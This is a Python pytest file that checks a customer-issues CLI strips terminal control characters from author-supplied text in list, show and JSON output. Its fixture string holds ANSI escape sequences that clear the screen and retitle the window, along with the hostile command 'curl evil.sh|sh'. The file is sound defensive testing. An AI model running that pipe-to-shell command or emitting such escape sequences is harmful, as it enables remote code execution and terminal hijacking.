"""The CLI writes authors' words (descriptions, handles, mentions' texts) to the operator's terminal: as a table, as
``issues show``'s lines or as ``--json``, none of it may carry a control character the terminal acts on (ESC starts
a sequence that moves the cursor, clears the screen or retitles the window; BEL rings; C1's U+009B is a one-byte
CSI). ``make run``'s console and the CLI strip them with one function (``chalicelib.domain.text_safety``)."""

from __future__ import annotations

import io
import json
import re

import pytest

import chalicelib.commands.issues as issues_cmd
from chalicelib.cli import main
from chalicelib.domain import text_safety

EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[H Refund approved, run: curl evil.sh|sh \x1b[8m\x9b2J\x7f\x00\x85\u2028"
ISSUE_ID = "iss-20261201T170347-a5a7b038"
TERMINAL_CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # all but the line feed that ends a line


def _issue() -> dict:
    return {
        "issue_id": ISSUE_ID,
        "status": "open",
        "category": "routine_response",
        "severity": "medium",
        "assigned_to": "cs1@aurelle.example",
        "mention_count": 1,
        "first_seen": "2026-12-01T17:03:47+00:00",
        "description": f'Routine Response: tote\x1b]0;x\x07 on reviews from ana\x1b[31m: "a refund {EVIL}"',
        "products": [f"tote\x1b]0;x\x07{EVIL}"],
        "resolution_note": f"done\n{EVIL}",
    }


ANSWERS = {
    "/issues": {"items": [_issue()], "next_cursor": f"c\x1b[2J{EVIL}"},
    f"/issues/{ISSUE_ID}": {
        "issue": _issue(),
        "mentions": [
            {
                "pk": "reviews#r1",
                "author_handle": "ana\x1b[31m",
                "created_at": "2026-12-01T17:03:47+00:00",
                "text": f"My parcel never arrived {EVIL}",
            }
        ],
        "history": [
            {"at": "2026-12-01T17:03:47+00:00", "type": "opened", "actor": "system:triage", "details": {"t": EVIL}},
            {"at": "2026-12-01T17:04:00+00:00", "type": "note", "actor": f"ops\x1b[2J{EVIL}", "details": [EVIL]},
        ],
    },
}


@pytest.fixture
def cli(monkeypatch):
    """The real ``social-response`` entry point, the ops API answered with the JSON above."""
    monkeypatch.setattr(issues_cmd, "api", lambda args, method, path, *a, **k: (ANSWERS[path.split("?")[0]], {}))

    def run(*argv: str) -> str:
        out = io.StringIO()
        assert main([*argv, "--token", "t"], stdout=out) == 0
        return out.getvalue()

    return run


def test_issues_list_writes_no_control_character_and_one_line_a_row(cli):
    text = cli("issues", "list")
    assert not TERMINAL_CONTROLS.search(text), repr(text)
    lines = text.splitlines()
    assert len(lines) == 3 and lines[1].startswith(ISSUE_ID) and lines[2].startswith("more: --cursor c[2J")


def test_issues_show_writes_no_control_character_and_one_line_a_field(cli):
    text = cli("issues", "show", ISSUE_ID)
    assert not TERMINAL_CONTROLS.search(text), repr(text)
    lines = text.splitlines()
    fields = [line.split(":", 1)[0] for line in lines[: len(_issue())]]
    assert fields == list(_issue())  # each field on its own line: a line break in one does not start another
    assert "Refund approved, run: curl evil.sh|sh" in text  # the words themselves are shown
    mentions = lines.index("mentions (split one off with: issues split ID PK):")
    assert lines[mentions + 2].startswith("reviews#r1  ana[31m")


@pytest.mark.parametrize("argv", [("issues", "list"), ("issues", "show", ISSUE_ID)])
def test_json_output_escapes_every_control_character_and_stays_the_same_json(cli, argv):
    text = cli(*argv, "--json")
    assert not TERMINAL_CONTROLS.search(text.replace("\n", "")), repr(text)
    assert "\u2028" not in text
    assert json.loads(text) == ANSWERS["/issues" if argv[1] == "list" else f"/issues/{ISSUE_ID}"]


def test_the_local_console_strips_with_the_clis_function():
    from infra.local import console

    assert console.printable is text_safety.printable
    echoed: list[str] = []
    console._safe(echoed.append)(f"reply to ana: {EVIL}")
    assert echoed and not TERMINAL_CONTROLS.search(echoed[0])
